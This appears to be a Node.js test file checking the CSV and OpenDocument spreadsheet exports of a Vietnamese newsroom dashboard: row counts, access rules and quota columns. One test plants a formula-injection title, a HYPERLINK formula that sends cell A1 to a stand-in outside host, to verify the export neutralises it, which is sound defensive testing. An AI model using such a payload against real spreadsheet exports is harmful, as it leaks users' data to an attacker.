// Every list of the leaders' page can be taken away whole (D3.2c, D9.4, D13.1): comma-separated text of RFC 4180 and OpenDocument, with the same words as on
// the page and the same rule of who may read a title.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { after, before, test } from 'node:test';

import { parse } from 'node-html-parser';

import { startInstance } from '../support/instance.mjs';
import { articleFields, cast, mustAct, writeArticle } from '../support/journey.mjs';
import { unpack } from '../support/zip.mjs';

let site;
let people;
before(async () => {
  site = await startInstance();
  site.sv('down', 'scheduler'); // the lists stand still while they are compared
  people = await cast(site);
});
after(() => site?.stop());

const one = (statement) => site.sql(statement)[0]?.[0];
const hrefOf = (link) => link.getAttribute('href').replaceAll('&amp;', '&');
const flat = (text) => text.replace(/\s+/g, ' ').trim();

// RFC 4180 to the letter: what is not of it throws.
function parseCsv(bytes) {
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark');
  const text = bytes.subarray(3).toString('utf8');
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const rows = [];
  let row = [];
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const found = field.exec(text);
    assert.ok(found, `not RFC 4180 at ${at}: ${text.slice(at, at + 40)}`);
    row.push(found[1] === undefined ? found[2] : found[1].replaceAll('""', '"'));
    if (found[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  assert.equal(row.length, 0, 'the last line ends with CRLF');
  for (const other of rows) assert.equal(other.length, rows[0].length, 'every line has as many fields');
  return { columns: rows[0], rows: rows.slice(1) };
}

function parseOds(bytes) {
  const files = unpack(bytes);
  assert.deepEqual([files[0].name, files[0].stored, files[0].bytes.toString()], ['mimetype', true, 'application/vnd.oasis.opendocument.spreadsheet']);
  assert.equal(bytes.toString('latin1', 30, 38), 'mimetype');
  const named = Object.fromEntries(files.map((file) => [file.name, file.bytes]));
  for (const name of ['META-INF/manifest.xml', 'content.xml']) execFileSync('xmllint', ['--noout', '-'], { input: named[name] });
  const document = parse(named['content.xml'].toString());
  const rows = document.querySelectorAll('table\\:table-row').map((row) => row.querySelectorAll('table\\:table-cell').map((cell) => cell.textContent));
  return { columns: rows[0], rows: rows.slice(1), content: named['content.xml'].toString() };
}

async function files(client, query) {
  const [csv, ods] = await Promise.all(['csv', 'ods'].map((form) => client.get(`/quan-tri/dieu-hanh/danh-sach.${form}?${query}`)));
  for (const [answer, type, ending] of [[csv, 'text/csv; charset=utf-8; header=present', 'csv'], [ods, 'application/vnd.oasis.opendocument.spreadsheet', 'ods']]) {
    assert.equal(answer.status, 200, query);
    assert.equal(answer.headers['content-type'], type);
    assert.match(answer.headers['content-disposition'], new RegExp(`^attachment; filename="dieu-hanh-[a-z-]+-\\d{4}-\\d\\d-\\d\\d\\.${ending}"$`));
    assert.match(answer.headers['cache-control'], /no-store/);
  }
  return { csv: parseCsv(csv.bytes), ods: parseOds(ods.bytes) };
}

test('D3.2c every list that the leaders’ page opens has its file, with as many lines as the page, in both forms', async () => {
  const url = await writeArticle(people.author, articleFields(site, { title: 'Tin trễ có "ngoặc kép", dấu phẩy', event_at: '02/11/2026 08:00' }));
  await mustAct(people.author, url, 'submit-to-unit');
  await mustAct(people.unitHead, url, 'approve-unit');
  const page = (await people.boardHead.get('/quan-tri/dieu-hanh/')).html();
  const lists = [...new Set(page.querySelectorAll('main a').map(hrefOf).filter((href) => href.startsWith('/quan-tri/dieu-hanh/danh-sach?')))];
  assert.ok(lists.length >= 10, `${lists.length} lists`);
  const kinds = new Set();
  for (const list of lists) {
    const query = list.split('?')[1];
    kinds.add(query.match(/loai=([a-z-]+)/)[1]);
    const titles = [];
    for (let next = list; next; ) {
      const html = (await people.boardHead.get(next)).html();
      // Both files are offered wherever there is a line.
      const offered = html.querySelectorAll('main a[download]').map((link) => hrefOf(link).split('?')[0]);
      if (html.querySelector('tbody tr')) assert.deepEqual(offered, ['/quan-tri/dieu-hanh/danh-sach.csv', '/quan-tri/dieu-hanh/danh-sach.ods'], list);
      titles.push(...html.querySelectorAll('tbody tr').map((row) => flat((row.querySelector('.table__title a') ?? row.querySelector('.table__title, th')).childNodes[0].rawText.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))));
      next = html.querySelector('.pager a[rel=next]') && hrefOf(html.querySelector('.pager a[rel=next]'));
    }
    const { csv, ods } = await files(people.boardHead, query);
    assert.deepEqual(csv.rows.map(([title]) => flat(title)), titles, list);
    assert.deepEqual(ods.columns, csv.columns);
    assert.equal(ods.rows.length, csv.rows.length, list);
  }
  for (const kind of ['qua-han', 'hom-nay', 'tre-han', 'dung-han', 'don-vi', 'giu', 'ngay']) assert.ok(kinds.has(kind), kind);
  assert.equal((await people.boardHead.get('/quan-tri/dieu-hanh/danh-sach.csv?loai=khong-co')).status, 404);
});

test('D9.4_D14.3đ the tables of the page itself are files too: quota of every unit, what waits for whom, rates, trend', async () => {
  const page = (await people.boardHead.get('/quan-tri/dieu-hanh/?thang=2026-11')).html();
  const linked = page.querySelectorAll('main a[download]').map(hrefOf);
  for (const kind of ['qua-han', 'dinh-muc', 'theo-dieu', 'sau-thang', 'nguoi-giu']) for (const form of ['csv', 'ods']) assert.ok(linked.includes(`/quan-tri/dieu-hanh/danh-sach.${form}?loai=${kind}&thang=2026-11`), `${kind}.${form}`);
  const { csv, ods } = await files(people.boardHead, 'loai=dinh-muc&thang=2026-11');
  assert.deepEqual(csv.columns, ['Đơn vị', 'Loại', 'Tháng', 'Đã cung cấp', 'Ít nhất', 'Nhiều nhất', 'Kết quả']);
  assert.deepEqual(csv.rows.map(([name, kind]) => [name, kind]), site.sql("SELECT name, IF(kind = 'local', 'Tư pháp địa phương', 'Thuộc Sở') FROM core_unit WHERE kind <> 'board' ORDER BY kind = 'local', position, id"));
  assert.match(ods.content, /office:value-type="float" office:value="\d+"/, 'figures are figures');
  for (const [, kind, , supplied, min, max, result] of csv.rows) {
    if (kind === 'Tư pháp địa phương') assert.deepEqual([min, max, result], ['', '', 'Không có định mức']);
    else assert.equal(result, Number(supplied) < Number(min) ? `Thiếu ${Number(min) - Number(supplied)}` : Number(supplied) >= Number(max) ? 'Đủ' : 'Đủ mức tối thiểu');
  }
  const waiting = await files(people.boardHead, 'loai=nguoi-giu');
  assert.equal(waiting.csv.rows.reduce((sum, row) => sum + Number(row[2]), 0), Number(one("SELECT COUNT(*) FROM core_item WHERE state IN ('unit_review', 'submitted', 'editing', 'verifying', 'final_check', 'ready')")));
  assert.match(waiting.csv.rows[0][3], /^\d{4}-\d\d-\d\d \d\d:\d\d$/);
  const rates = await files(people.boardHead, 'loai=theo-dieu&thang=2026-11');
  assert.ok(rates.csv.rows.length >= 3);
  assert.equal((await files(people.boardHead, 'loai=sau-thang&thang=2026-11')).csv.columns.length, 4);
});

test('D9.1a a title that somebody may not know is not in a file either', async () => {
  await writeArticle(people.author, articleFields(site, { title: 'Bản nháp riêng không vào tệp', event_at: '03/11/2026 08:00' }));
  const office = await site.login('office');
  for (const client of [people.boardHead, office, people.secretary]) {
    const { csv, ods } = await files(client, 'loai=qua-han');
    assert.doesNotMatch(JSON.stringify(csv.rows) + ods.content, /Bản nháp riêng không vào tệp/);
    assert.ok(csv.rows.some(([title]) => /^Bài .* \(chưa gửi Ban Biên tập\)$/.test(title)));
  }
});

test('D9.2 what somebody typed is never a formula in the file', async () => {
  const evil = '=HYPERLINK("http://noi-khac.example/?"&A1;"Bấm")';
  const url = await writeArticle(people.author, articleFields(site, { title: evil, event_at: '02/11/2026 09:00' }));
  await mustAct(people.author, url, 'submit-to-unit');
  await mustAct(people.unitHead, url, 'approve-unit');
  const { csv, ods } = await files(people.boardHead, 'loai=giu&buoc=submitted');
  assert.ok(csv.rows.some(([title]) => title === `'${evil}`));
  assert.ok(!csv.rows.flat().some((cell) => /^\s*[=+@]/.test(cell)));
  assert.doesNotMatch(ods.content, /table:formula/);
  assert.ok(ods.content.includes('office:value-type="string"><text:p>=HYPERLINK('));
});

test('D3.2c a file holds the whole list, however many pages it has', async () => {
  site.sql(`INSERT INTO core_clock (duty_id, calendar_id, subject, started_at, due_at) SELECT d.id, c.id, CONCAT('tep:', s.seq), UTC_TIMESTAMP(6) - INTERVAL 9 DAY, UTC_TIMESTAMP(6) - INTERVAL s.seq MINUTE FROM seq_1_to_1300 s, core_calendar c, core_duty d WHERE c.is_own = 1 AND d.code = 'D18.5' AND d.valid_to IS NULL`);
  const count = Number(one("SELECT COUNT(*) FROM core_clock WHERE state = 'open' AND due_at < UTC_TIMESTAMP(6)"));
  assert.ok(count > 1300);
  const { csv, ods } = await files(people.boardHead, 'loai=qua-han');
  assert.equal(csv.rows.length, count);
  assert.equal(ods.rows.length, count);
});
